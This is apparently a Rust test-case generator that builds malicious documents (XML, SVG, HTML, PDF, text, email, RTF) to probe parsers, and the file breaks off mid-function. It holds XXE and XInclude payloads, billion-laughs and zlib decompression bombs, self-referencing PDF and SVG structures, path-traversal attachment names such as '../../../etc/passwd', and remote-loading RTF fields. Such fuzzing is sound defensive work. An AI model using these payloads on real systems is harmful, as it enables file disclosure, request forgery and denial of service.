//! Documents: markup that includes, expands or nests, PDFs that loop, text without end, fonts.

use super::bits::{be32, zlib_run};
use super::films::targets;
use super::{Body, Cases, Lures};

pub(super) fn add(cases: &mut Cases, lures: &Lures) {
    svg(cases.of("svg"), lures);
    for (what, attack) in markup_attacks(lures) {
        cases.of("xml").add(what, attack.into_bytes());
    }
    html(cases.of("html"), lures);
    pdf(cases.of("pdf"), lures);
    text(cases.of("text"));
    mail(cases.of("eml"), lures);
    rtf(cases.of("rtf"), lures);
    fonts(cases);
    polyglots(cases.of("polyglot"), lures);
}

/// XML that includes, expands or nests, whatever document it is put into.
pub(super) fn markup_attacks(lures: &Lures) -> Vec<(String, String)> {
    let mut attacks = Vec::new();
    for target in targets(lures) {
        attacks.push((
            format!("an entity at {target}"),
            format!(
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"{target}\">]><x>&e;</x>"
            ),
        ));
        attacks.push((
            format!("a parameter entity at {target}"),
            format!(
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % e SYSTEM \"{target}\">%e;]><x/>"
            ),
        ));
    }
    let target = format!("http://{}/lure.dtd", lures.address);
    attacks.push((
        "a DTD".into(),
        format!("<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"{target}\"><x/>"),
    ));
    attacks.push(("an inclusion".into(), format!(
        "<?xml version=\"1.0\"?><x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://{}/lure.txt\"/></x>",
        lures.folder
    )));
    let mut laughs = String::from("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY l0 \"lol\">");
    for level in 1..12 {
        laughs += &format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10));
    }
    attacks.push(("a billion laughs".into(), laughs + "]><x>&l11;</x>"));
    let long = "A".repeat(50_000);
    attacks.push((
        "a quadratic blow-up".into(),
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"{long}\">]><x>{}</x>",
            "&a;".repeat(20_000)
        ),
    ));
    attacks.push((
        "entities in a circle".into(),
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><x>&a;</x>"
            .into(),
    ));
    attacks.push((
        "100000 elements deep".into(),
        format!("<?xml version=\"1.0\"?>{}", "<x>".repeat(100_000)),
    ));
    attacks.push((
        "20000 attributes".into(),
        format!(
            "<?xml version=\"1.0\"?><x {}/>",
            (0..20_000).map(|index| format!("a{index}='' ")).collect::<String>()
        ),
    ));
    attacks.push((
        "20000 namespaces".into(),
        format!(
            "<?xml version=\"1.0\"?><x {}/>",
            (0..20_000).map(|index| format!("xmlns:n{index}='u' ")).collect::<String>()
        ),
    ));
    attacks
}

fn svg(cases: &mut Cases, lures: &Lures) {
    let whole = |body: &str| {
        format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
             width=\"64\" height=\"64\" viewBox=\"0 0 64 64\">{body}</svg>"
        )
        .into_bytes()
    };
    for target in targets(lures) {
        for (what, body) in [
            ("an image", format!("<image width=\"64\" height=\"64\" href=\"{target}\"/>")),
            (
                "an old image",
                format!("<image width=\"64\" height=\"64\" xlink:href=\"{target}\"/>"),
            ),
            ("a use", format!("<use href=\"{target}#a\"/>")),
            (
                "a filter image",
                format!(
                    "<filter id=\"f\"><feImage href=\"{target}\"/></filter><rect width=\"64\" height=\"64\" filter=\"url(#f)\"/>"
                ),
            ),
            (
                "a style",
                format!(
                    "<style>@import url(\"{target}\"); rect {{ fill: url({target}#p) }}</style><rect width=\"64\" height=\"64\"/>"
                ),
            ),
            (
                "a font",
                format!(
                    "<style>@font-face {{ font-family: x; src: url({target}) }}</style><text y=\"9\" font-family=\"x\">x</text>"
                ),
            ),
            (
                "a pattern",
                format!(
                    "<rect width=\"64\" height=\"64\" fill=\"url({target}#p)\" mask=\"url({target}#m)\"/>"
                ),
            ),
            (
                "a foreign page",
                format!(
                    "<foreignObject width=\"64\" height=\"64\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"{target}\"/></foreignObject>"
                ),
            ),
            ("a script", format!("<script href=\"{target}\">fetch(\"{target}\")</script>")),
            ("a style sheet", format!("<?xml-stylesheet href=\"{target}\"?>")),
        ] {
            cases.add(format!("{what} at {target}"), whole(&body));
        }
        let entity = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"{target}\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"99\" height=\"99\"><text y=\"20\">&e;</text></svg>"
        );
        cases.add(format!("an entity at {target}"), entity.into_bytes());
    }
    let double: String = (1..60)
        .map(|level| {
            format!("<g id=\"g{level}\"><use href=\"#g{0}\"/><use href=\"#g{0}\"/></g>", level - 1)
        })
        .collect();
    let inside = |data: &str| {
        format!("<image width=\"64\" height=\"64\" href=\"data:image/svg+xml,{data}\"/>")
    };
    let stages = "<feGaussianBlur stdDeviation=\"400\"/><feMorphology operator=\"dilate\" radius=\"400\"/><feTurbulence baseFrequency=\"0.5\" numOctaves=\"9999\"/>";
    for (what, body) in [
        ("use of itself", "<g id=\"a\"><use href=\"#a\"/></g>".to_owned()),
        ("use in a circle", "<g id=\"a\"><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>".to_owned()),
        ("use that doubles 60 times", format!("<g id=\"g0\"><rect width=\"9\" height=\"9\"/></g>{double}<use href=\"#g59\"/>")),
        ("a mask of itself", "<mask id=\"m\" mask=\"url(#m)\"><rect width=\"9\" height=\"9\" mask=\"url(#m)\"/></mask><rect width=\"9\" height=\"9\" mask=\"url(#m)\"/>".to_owned()),
        ("a clip of itself", "<clipPath id=\"c\" clip-path=\"url(#c)\"><rect width=\"9\" height=\"9\"/></clipPath><rect width=\"9\" height=\"9\" clip-path=\"url(#c)\"/>".to_owned()),
        ("a pattern of itself", "<pattern id=\"p\" width=\"1\" height=\"1\"><rect width=\"9\" height=\"9\" fill=\"url(#p)\"/></pattern><rect width=\"64\" height=\"64\" fill=\"url(#p)\"/>".to_owned()),
        ("a pattern of tiny tiles", "<pattern id=\"p\" width=\"0.00001\" height=\"0.00001\" patternUnits=\"userSpaceOnUse\"><rect width=\"1\" height=\"1\"/></pattern><rect width=\"64\" height=\"64\" fill=\"url(#p)\"/>".to_owned()),
        ("gradients in a circle", "<linearGradient id=\"a\" href=\"#b\"/><linearGradient id=\"b\" href=\"#a\"/><rect width=\"9\" height=\"9\" fill=\"url(#a)\"/>".to_owned()),
        ("2000 filter stages", format!("<filter id=\"f\">{}</filter><rect width=\"64\" height=\"64\" filter=\"url(#f)\"/>", stages.repeat(667))),
        ("200 filters in each other", format!("<filter id=\"f\" x=\"-9999%\" y=\"-9999%\" width=\"99999%\" height=\"99999%\">{stages}</filter>{}<rect width=\"64\" height=\"64\"/>{}", "<g filter=\"url(#f)\">".repeat(200), "</g>".repeat(200))),
        ("100000 groups deep", "<g>".repeat(100_000)),
        ("500 clear groups deep", format!("{}<rect width=\"64\" height=\"64\"/>{}", "<g opacity=\"0.9\">".repeat(500), "</g>".repeat(500))),
        ("a path of a million parts", format!("<path d=\"M0 0{}\" stroke=\"red\"/>", "l1 1-1-1".repeat(500_000))),
        ("dashes of nothing", "<path d=\"M0 0L1e9 0\" stroke=\"red\" stroke-dasharray=\"0.0000001\"/>".to_owned()),
        ("numbers beyond all", "<path d=\"M1e308 1e308L-1e308-1e308A1e308 1e308 0 1 1 NaN 1\" stroke=\"red\" stroke-width=\"1e300\"/>".to_owned()),
        ("a picture in itself", inside(&inside("x").replace('#', "%23").replace('"', "%22").repeat(3))),
        ("a PNG bomb", "<image width=\"64\" height=\"64\" href=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAdTAAAHUwCAYAAADjpO5WAAAAAElFTkSuQmCC\"/>".to_owned()),
        ("a megabyte of text", format!("<text y=\"9\">{}</text>", "W".repeat(1 << 20))),
        ("marks on everything", format!("<marker id=\"m\"><path d=\"M0 0h9\" marker-mid=\"url(#m)\"/></marker><path d=\"M0 0{}\" marker-mid=\"url(#m)\"/>", "h1".repeat(50_000))),
        ("rules without end", format!("<style>{}</style>", "a b c d e f g h i j k > l + m ~ n { fill: red }".repeat(20_000))),
        ("switches in switches", "<switch>".repeat(5_000)),
    ] {
        cases.add(what, whole(&body));
    }
    for (width, height, view) in [
        ("1e30", "1e30", "0 0 1 1"),
        ("-1", "-1", "0 0 1 1"),
        ("0", "0", "0 0 0 0"),
        ("NaN", "inf", "0 0 1 1"),
        ("4294967295", "4294967295", "0 0 1 1"),
        ("100%", "100%", "0 0 1e-30 1e30"),
        ("99999999999cm", "1px", "0 0 -1 -1"),
        ("30000", "30000", "0 0 30000 30000"),
    ] {
        let body = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{width}\" height=\"{height}\" viewBox=\"{view}\"><rect width=\"9\" height=\"9\"/></svg>"
        );
        cases.add(format!("claims {width}x{height} over {view}"), body.into_bytes());
    }
}

fn html(cases: &mut Cases, lures: &Lures) {
    for target in targets(lures) {
        let body = format!(
            "<!doctype html><title>x</title><link rel=stylesheet href=\"{target}\"><meta http-equiv=refresh content=\"0;url={target}\">\
             <img src=\"{target}\"><iframe src=\"{target}\"></iframe><object data=\"{target}\"></object><script src=\"{target}\"></script>\
             <script>fetch(\"{target}\");location=\"{target}\"</script><video src=\"{target}\"></video>"
        );
        cases.add(format!("everything at {target}"), body.into_bytes());
    }
    for (what, body) in [
        ("100000 elements deep", format!("<!doctype html>{}", "<div>".repeat(100_000))),
        ("an endless script", "<!doctype html><script>for(;;){}</script>".to_owned()),
        (
            "a swelling script",
            "<!doctype html><script>let a=[];for(;;)a.push(new Uint8Array(1e7))</script>"
                .to_owned(),
        ),
        ("tables in tables", format!("<html>{}", "<table><tr><td>".repeat(20_000))),
        ("alerts", "<!doctype html><script>for(;;)alert(1)</script>".to_owned()),
    ] {
        cases.add(what, body.into_bytes());
    }
}

/// A PDF of these objects, numbered from 1; the first is the catalogue.
pub(super) fn pdf_of(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (index, object) in objects.iter().enumerate() {
        places.push(out.len());
        out.extend(format!("{} 0 obj\n", index + 1).bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let table = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        out.extend(format!("{place:010} 00000 n \n").bytes());
    }
    out.extend(
        format!(
            "trailer\n<</Size {} /Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n",
            objects.len() + 1
        )
        .bytes(),
    );
    out
}

fn stream(dictionary: &str, body: &[u8]) -> Vec<u8> {
    [format!("<<{dictionary} /Length {}>>\nstream\n", body.len()).as_bytes(), body, b"\nendstream"]
        .concat()
}

/// A page that is drawn by `content`, with `page` in its dictionary and more objects from 5 on.
pub(super) fn page_of(page: &str, content: Vec<u8>, more: &[Vec<u8>]) -> Vec<u8> {
    let objects = [
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        format!("<</Type/Page/Parent 2 0 R/Contents 4 0 R {page}>>").into_bytes(),
        content,
    ];
    pdf_of(&[&objects[..], more].concat())
}

fn pdf(cases: &mut Cases, lures: &Lures) {
    const A4: &str = "/MediaBox[0 0 595 842]";
    let catalogue = |pages: &str| {
        pdf_of(&[
            b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
            pages.as_bytes().to_vec(),
            b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>".to_vec(),
        ])
    };
    for (what, pages) in [
        ("pages in themselves", "<</Type/Pages/Kids[2 0 R]/Count 1>>".to_owned()),
        ("pages in a circle", "<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>".to_owned()),
        (
            "pages twice in themselves",
            "<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R 3 0 R]/Count 9>>".to_owned(),
        ),
        ("2^31 pages of none", "<</Type/Pages/Kids[]/Count 2147483647>>".to_owned()),
        ("-1 pages", "<</Type/Pages/Kids[]/Count -1>>".to_owned()),
        (
            "a hundred thousand kids",
            format!("<</Type/Pages/Kids[{}]/Count 100000>>", "9 0 R ".repeat(100_000)),
        ),
        ("arrays 100000 deep", format!("<</Type/Pages/Kids {}>>", "[".repeat(100_000))),
        ("dictionaries 100000 deep", "<</A ".repeat(100_000)),
        ("strings 100000 deep", format!("<</Type/Pages/Kids {}>>", "(".repeat(100_000))),
    ] {
        cases.add(what, catalogue(&pages));
    }
    for edges in [
        "0 0 1e10 1e10",
        "0 0 14400 14400",
        "0 0 200000 200000",
        "0 0 0 0",
        "0 0 -9 -9",
        "9 9 0 0",
        "0 0 1 1000000",
        "0 0 NaN 9",
        "0 0 0.0001 0.0001",
        "-2147483648 -2147483648 2147483647 2147483647",
    ] {
        for unit in ["", "/UserUnit 75000", "/Rotate 45", "/Rotate 2147483647"] {
            cases.add(
                format!("a page of {edges} {unit}"),
                page_of(&format!("/MediaBox[{edges}]{unit}"), stream("", b"0 0 9 9 re f"), &[]),
            );
        }
    }
    let image = |dictionary: &str, body: &[u8]| {
        page_of(
            &format!("{A4}/Resources<</XObject<</I 5 0 R>>>>"),
            stream("", b"500 0 0 800 0 0 cm /I Do"),
            &[stream(&format!("/Type/XObject/Subtype/Image {dictionary}"), body)],
        )
    };
    for (width, height) in
        [(0u32, 0u32), (1, u32::MAX), (65_535, 65_535), (100_000, 100_000), (30_000, 30_000)]
    {
        for filter in [
            "JBIG2Decode",
            "JPXDecode",
            "CCITTFaxDecode",
            "DCTDecode",
            "FlateDecode",
            "RunLengthDecode",
            "LZWDecode",
        ] {
            let dictionary = format!(
                "/Width {width}/Height {height}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/{filter}/DecodeParms<</K -1/Columns {width}/Rows {height}>>"
            );
            cases.add(format!("{filter} of {width}x{height}"), image(&dictionary, &[0x55; 90]));
        }
    }
    let jbig = |width: u32, height: u32, kind: u8| {
        [
            &be32(0)[..],
            &[48, 0, 1],
            &be32(19),
            &be32(width),
            &be32(height),
            &[0; 8],
            &[0, 0, 0],
            &be32(1),
            &[kind, 0, 1],
            &be32(u32::MAX),
            &be32(width),
            &be32(height),
            &[0; 30],
        ]
        .concat()
    };
    for kind in [0u8, 4, 6, 16, 23, 36, 38, 39, 40, 42, 53, 62] {
        for (width, height) in [(u32::MAX, u32::MAX), (40_000, 40_000), (64, 64)] {
            cases.add(format!("JBIG2 segment {kind} of {width}x{height}"), image("/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", &jbig(width, height, kind)));
        }
    }
    let codestream = |width: u32, height: u32, tile: u32, parts: u16| {
        let size = [
            &[0xff, 0x4f, 0xff, 0x51][..],
            &(38 + 3 * parts).to_be_bytes(),
            &[0, 0],
            &be32(width),
            &be32(height),
            &[0; 8],
            &be32(tile),
            &be32(tile),
            &[0; 8],
            &parts.to_be_bytes(),
            &[7, 1, 1].repeat(parts.min(3_000).into()),
        ]
        .concat();
        [
            &size[..],
            &[
                0xff, 0x52, 0, 12, 0, 0, 0, 1, 0, 5, 4, 4, 0, 0, 0xff, 0x5c, 0, 4, 0x40, 0x40,
                0xff, 0x90, 0, 10, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, 0x93, 0xff, 0xd9,
            ],
        ]
        .concat()
    };
    for (width, height, tile, parts) in [
        (u32::MAX, u32::MAX, 1, 3),
        (60_000, 60_000, 1, 1),
        (60_000, 60_000, 60_000, 3),
        (64, 64, 0, 3),
        (64, 64, 64, 16_384),
        (1, 1, u32::MAX, 0),
    ] {
        let body = codestream(width, height, tile, parts);
        cases.add(
            format!("JPX of {width}x{height} by {tile}, {parts} parts"),
            image("/Width 64/Height 64/Filter/JPXDecode", &body),
        );
        cases.of("jp2").add(format!("{width}x{height} by {tile}, {parts} parts"), body);
        cases.of("pdf");
    }
    for megabytes in [64, 1_000, 4_000] {
        let run = zlib_run(b" ", megabytes << 20);
        cases.add(
            format!("content of {megabytes} MiB"),
            page_of(A4, stream("/Filter/FlateDecode", &run), &[]),
        );
        let pixels = zlib_run(&[0], megabytes << 20);
        cases.add(
            format!("a picture of {megabytes} MiB"),
            image(
                "/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
                &pixels,
            ),
        );
        let objects = stream(
            "/Type/ObjStm/N 1000000/First 9/Filter/FlateDecode",
            &zlib_run(b"1 0 ", megabytes << 20),
        );
        cases.add(
            format!("an object stream of {megabytes} MiB"),
            page_of(A4, stream("", b"q Q"), &[objects]),
        );
        let table = stream(
            "/Type/XRef/Size 2147483647/W[8 8 8]/Root 1 0 R/Filter/FlateDecode",
            &zlib_run(&[0], megabytes << 20),
        );
        let mut whole = page_of(A4, stream("", b"q Q"), &[table]);
        let place = whole.windows(7).position(|window| window == b"5 0 obj").expect("an object");
        whole.extend(format!("startxref\n{place}\n%%EOF\n").bytes());
        cases.add(format!("a cross reference of {megabytes} MiB"), whole);
    }
    let filters = "/FlateDecode ".repeat(5_000);
    cases.add(
        "5000 filters in a row",
        page_of(A4, stream(&format!("/Filter[{filters}]"), &zlib_run(b" ", 1_000)), &[]),
    );
    let form = |body: &[u8], resources: &str| {
        stream(&format!("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<{resources}>>"), body)
    };
    let with = |what: &str| format!("{A4}/Resources<<{what}>>");
    cases.add(
        "a form of itself",
        page_of(
            &with("/XObject<</F 5 0 R>>"),
            stream("", b"/F Do"),
            &[form(b"/F Do /F Do", "/XObject<</F 5 0 R>>")],
        ),
    );
    let doubling: Vec<Vec<u8>> = (0..40)
        .map(|level| form(b"/F Do /F Do", &format!("/XObject<</F {} 0 R>>", level + 6)))
        .collect();
    cases.add(
        "forms that double 40 times",
        page_of(&with("/XObject<</F 5 0 R>>"), stream("", b"/F Do"), &doubling),
    );
    cases.add("a pattern of itself", page_of(&with("/Pattern<</P 5 0 R>>"), stream("", b"/Pattern cs /P scn 0 0 500 500 re f"), &[stream("/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<</Pattern<</P 5 0 R>>>>", b"/Pattern cs /P scn 0 0 1 1 re f")]));
    cases.add("a soft mask of itself", page_of(&with("/ExtGState<</G 5 0 R>>"), stream("", b"/G gs 0 0 500 500 re f"), &[b"<</SMask<</S/Luminosity/G 6 0 R>>>>".to_vec(), stream("/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Group<</S/Transparency>>/Resources<</ExtGState<</G 5 0 R>>>>", b"/G gs 0 0 500 500 re f")]));
    cases.add("a font of glyphs that draw it", page_of(&with("/Font<</F 5 0 R>>"), stream("", b"BT /F 99 Tf (aaaa) Tj ET"), &[b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>".to_vec(), stream("", b"BT /F 1 Tf (aa) Tj ET")]));
    for (what, function) in [
        (
            "sampled 65536 times 8",
            "<</FunctionType 0/Domain[0 1 0 1 0 1 0 1 0 1 0 1 0 1 0 1]/Range[0 1]/Size[65536 65536 65536 65536 65536 65536 65536 65536]/BitsPerSample 32/Length 0>>stream\n\nendstream",
        ),
        (
            "stitched of itself",
            "<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>",
        ),
        ("a power of a million", "<</FunctionType 2/Domain[0 1]/N 1000000/C0[0]/C1[1e38]>>"),
        (
            "a program of braces",
            "<</FunctionType 4/Domain[0 1]/Range[0 1]/Length 9>>stream\n{{{{{{{{{\nendstream",
        ),
    ] {
        let shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 6 0 R/Extend[true true]>>".to_vec();
        cases.add(
            format!("a shading {what}"),
            page_of(
                &with("/Shading<</S 5 0 R>>"),
                stream("", b"/S sh"),
                &[shading, function.as_bytes().to_vec()],
            ),
        );
    }
    for (what, space) in [
        ("indexed of itself", "[/Indexed 5 0 R 255 (x)]"),
        ("of a thousand dyes", "[/DeviceN[/A /B] 5 0 R 5 0 R]"),
        ("of a profile of itself", "[/ICCBased 5 0 R]"),
        ("a separation of itself", "[/Separation/X 5 0 R 5 0 R]"),
    ] {
        cases.add(
            format!("a colour space {what}"),
            page_of(
                &with("/ColorSpace<</C 5 0 R>>"),
                stream("", b"/C cs 1 sc 0 0 99 99 re f"),
                &[space.as_bytes().to_vec()],
            ),
        );
    }
    let operators = [
        ("q ", 1_000_000),
        ("0 0 m ", 500_000),
        ("0 0 595 842 re f ", 200_000),
        ("BT ", 300_000),
        ("/X Do ", 300_000),
        ("[", 300_000),
        ("0 0 1e38 1e38 re S ", 2_000),
        ("[0.000001] 0 d 0 0 m 9999 9999 l S ", 50),
    ];
    for (what, times) in operators {
        cases.add(
            format!("{times} times {what}"),
            page_of(A4, stream("", what.repeat(times).as_bytes()), &[]),
        );
    }
    for target in targets(lures) {
        let file = format!("<</Type/Filespec/FS/URL/F({target})>>");
        let outside = stream(&format!("/F {file}"), b"");
        cases.add(format!("content at {target}"), page_of(A4, outside.clone(), &[]));
        cases.add(
            format!("a picture at {target}"),
            page_of(&with("/XObject<</I 5 0 R>>"), stream("", b"/I Do"), &[outside]),
        );
        let opens = format!(
            "{A4}/AA<</O<</S/URI/URI({target})>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F({target})>>>>]"
        );
        cases.add(format!("a page that opens {target}"), page_of(&opens, stream("", b"q Q"), &[]));
    }
    for (what, tail) in [
        (
            "a trailer that precedes itself",
            "trailer<</Root 1 0 R/Prev 9/Size 9>>\nstartxref\n9\n%%EOF",
        ),
        (
            "a cross reference of 2^31",
            "xref\n0 2147483647\n0000000000 65535 f \ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF",
        ),
        ("a cross reference at -1", "startxref\n-1\n%%EOF"),
        ("a cross reference beyond the end", "startxref\n99999999999999999999\n%%EOF"),
        ("a root that is its trailer", "trailer<</Root 9 0 R>>\nstartxref\n9\n%%EOF"),
        (
            "an unknown cipher",
            "trailer<</Root 1 0 R/Encrypt<</Filter/X/V 99/R 99/O(x)/U(x)/P -1>>/ID[(a)(b)]>>\n%%EOF",
        ),
        (
            "a cipher of no key",
            "trailer<</Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 6/Length 0/O()/U()/OE()/UE()/P 0>>/ID[()()]>>\n%%EOF",
        ),
        (
            "a length that is its stream",
            "4 0 obj<</Length 4 0 R>>stream\nx\nendstream endobj trailer<</Root 4 0 R>>\n%%EOF",
        ),
    ] {
        cases.add(what, format!("%PDF-1.7\n{tail}\n").into_bytes());
    }
    cases.add(
        "a header and a gigabyte of spaces",
        Body {
            head: b"%PDF-1.7\n".to_vec(),
            pattern: b" ".to_vec(),
            middle_bytes: 1 << 30,
            tail: b"startxref\n0\n%%EOF".to_vec(),
        },
    );
    cases.add("200000 objects of nothing", pdf_of(&vec![b"null".to_vec(); 200_000]));
}

fn text(cases: &mut Cases) {
    for (what, pattern, tail) in [
        ("a line of a gigabyte", &b"a"[..], &b"\n"[..]),
        ("a gigabyte of empty lines", b"\n", b""),
        ("a gigabyte of tabs", b"\t", b""),
        ("a gigabyte of commas", b",", b"\n"),
        ("a gigabyte of quotes", b"\"", b"\n"),
        ("a gigabyte of brackets", b"[", b""),
        ("a gigabyte of stars", b"*_", b"\n"),
        ("a gigabyte of quotations", b"> ", b"\n"),
        ("a gigabyte of accents", "\u{301}".as_bytes(), b"\n"),
        ("a gigabyte of directions", "\u{202e}\u{2066}".as_bytes(), b"\n"),
        ("a gigabyte of emoji", "\u{1f468}\u{200d}".as_bytes(), b"\n"),
    ] {
        cases.add(
            what,
            Body {
                head: b"text\n".to_vec(),
                pattern: pattern.to_vec(),
                middle_bytes: 1 << 30,
                tail: tail.to_vec(),
            },
        );
        let short = [b"text\n", &pattern.repeat(300_000 / pattern.len())[..], tail].concat();
        cases.add(format!("{what}, cut"), short);
    }
    for (what, piece, times) in [
        ("brackets of JSON", "{\"a\":[", 100_000),
        ("links in links", "[a](", 50_000),
        ("images in links", "![", 50_000),
        ("emphasis", "*a_b*_", 30_000),
        ("backticks", "` `` ``` ", 20_000),
        ("lists in lists", "- ", 20_000),
        ("footnotes", "[^1]: [^1]\n", 20_000),
        ("references", "[a]: /b\n[a]\n", 20_000),
        ("a table of columns", "|a", 50_000),
        ("comments of C", "/*", 100_000),
        ("strings of Python", "'''\\", 50_000),
        ("regular expressions", "/(((((a+)+)+)+)+)+$/;\n", 5_000),
        ("letters of escape", "\x1b[31m", 50_000),
        ("html in markdown", "<div><a href='x'>", 20_000),
    ] {
        cases.add(what, piece.repeat(times).into_bytes());
        cases.add(
            format!("{what} behind JSON"),
            format!("{{\"k\":\"v\"}}\n{}", piece.repeat(times / 10)).into_bytes(),
        );
    }
    for (what, body) in [
        ("UTF-16 of half a pair", [&b"\xff\xfe"[..], &[0x00, 0xd8].repeat(9_000)].concat()),
        ("UTF-32", [&b"\xff\xfe\0\0"[..], &[0xff, 0xff, 0x10, 0].repeat(9_000)].concat()),
        ("overlong UTF-8", [0xc0, 0x80, 0xe0, 0x80, 0xaf].repeat(9_000)),
        ("UTF-7", b"+ADw-script+AD4-".repeat(2_000)),
        ("escapes of ISO 2022", b"\x1b$B\x1b(B".repeat(9_000)),
        ("every byte", (0..=255).cycle().take(90_000).collect()),
        ("a number of a million digits", [&b"["[..], &vec![b'9'; 1 << 20], b"]"].concat()),
        ("a million columns", [vec![b','; 1 << 20], b"\na,b\n".to_vec()].concat()),
    ] {
        cases.add(what, body);
    }
}

fn mail(cases: &mut Cases, lures: &Lures) {
    let head = "From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nDate: Thu, 1 Jan 1970 00:00:00 +0000\r\nMIME-Version: 1.0\r\n";
    for depth in [10, 100, 1_000, 20_000] {
        let parts: String = (0..depth)
            .map(|level| {
                format!("Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n")
            })
            .collect();
        cases.add(format!("{depth} parts in each other"), format!("{head}{parts}").into_bytes());
        let messages = format!("Content-Type: message/rfc822\r\n\r\n{head}").repeat(depth);
        cases.add(
            format!("{depth} messages in each other"),
            format!("{head}{messages}").into_bytes(),
        );
    }
    for target in targets(lures) {
        let body = format!(
            "{head}Content-Type: text/html\r\n\r\n<html><base href=\"{target}\"><img src=\"{target}\"><style>@import \"{target}\"</style><iframe src=\"{target}\"></iframe></html>"
        );
        cases.add(format!("a body that loads {target}"), body.into_bytes());
        let outside = format!(
            "{head}Content-Type: message/external-body; access-type=URL; URL=\"{target}\"\r\n\r\nContent-Type: text/html\r\n\r\n"
        );
        cases.add(format!("a body at {target}"), outside.into_bytes());
    }
    for (what, body) in [
        ("100000 headers", format!("{head}{}", "X-A: b\r\n".repeat(100_000))),
        ("a header of 2 MiB", format!("{head}X: {}\r\n", "a".repeat(2 << 20))),
        ("a header folded 100000 times", format!("{head}X:{}\r\n", "\r\n a".repeat(100_000))),
        ("100000 recipients", format!("{head}Cc: {}\r\n", "a@b,".repeat(100_000))),
        ("comments in comments", format!("{head}Cc: {}\r\n", "(".repeat(100_000))),
        ("encoded words", format!("{head}X: {}\r\n", "=?utf-8?Q?=41?= ".repeat(50_000))),
        (
            "an unknown charset",
            format!("{head}Content-Type: text/plain; charset=\"x-{}\"\r\n\r\nx", "y".repeat(9_000)),
        ),
        (
            "100000 parts",
            format!(
                "{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n{}",
                "--b\r\n\r\n".repeat(100_000)
            ),
        ),
        (
            "an empty boundary",
            format!("{head}Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n--\r\n"),
        ),
        (
            "an attachment with a path",
            format!(
                "{head}Content-Type: image/png; name=\"../../../etc/passwd\"\r\nContent-Disposition: attachment; filename=\"/etc/passwd\"\r\nContent-Transfer-Encoding: base64\r\n\r\n////\r\n"
            ),
        ),
        ("uuencode without end", format!("{head}\r\nbegin 644 ../../x\r\n{}", "M".repeat(90_000))),
        ("a date of no calendar", head.replace("1 Jan 1970", "99 Jan 99999999999999")),
    ] {
        cases.add(what, body.into_bytes());
    }
}

fn rtf(cases: &mut Cases, lures: &Lures) {
    for target in targets(lures) {
        let body = format!(
            r#"{{\rtf1{{\field{{\*\fldinst INCLUDEPICTURE "{target}" \\d}}{{\fldrslt x}}}}{{\*\template {target}}}{{\object\objautlink\objupdate{{\*\objclass x}}{{\*\objdata 00}}}}}}"#
        );
        cases.add(format!("includes {target}"), body.into_bytes());
    }
    for (what, body) in [
        ("100000 groups deep", format!(r"{{\rtf1{}", "{".repeat(100_000))),
        (
            "a picture of 4 GiB",
            r"{\rtf1{\pict\picw2147483647\pich2147483647\bin4294967295 x}}".to_owned(),
        ),
        ("a row of 100000 cells", format!(r"{{\rtf1\trowd{}\row}}", r"\cellx1".repeat(100_000))),
        ("a number of 9000 digits", format!(r"{{\rtf1\fs{}}}", "9".repeat(9_000))),
        ("skips beyond the end", r"{\rtf1\uc2147483647\u65x}".to_owned()),
    ] {
        cases.add(what, body.into_bytes());
    }
}

fn fonts(cases: &mut Cases) {
    let font = |magic: &[u8], tables: &[(&[u8; 4], u32, u32)], body: &[u8]| {
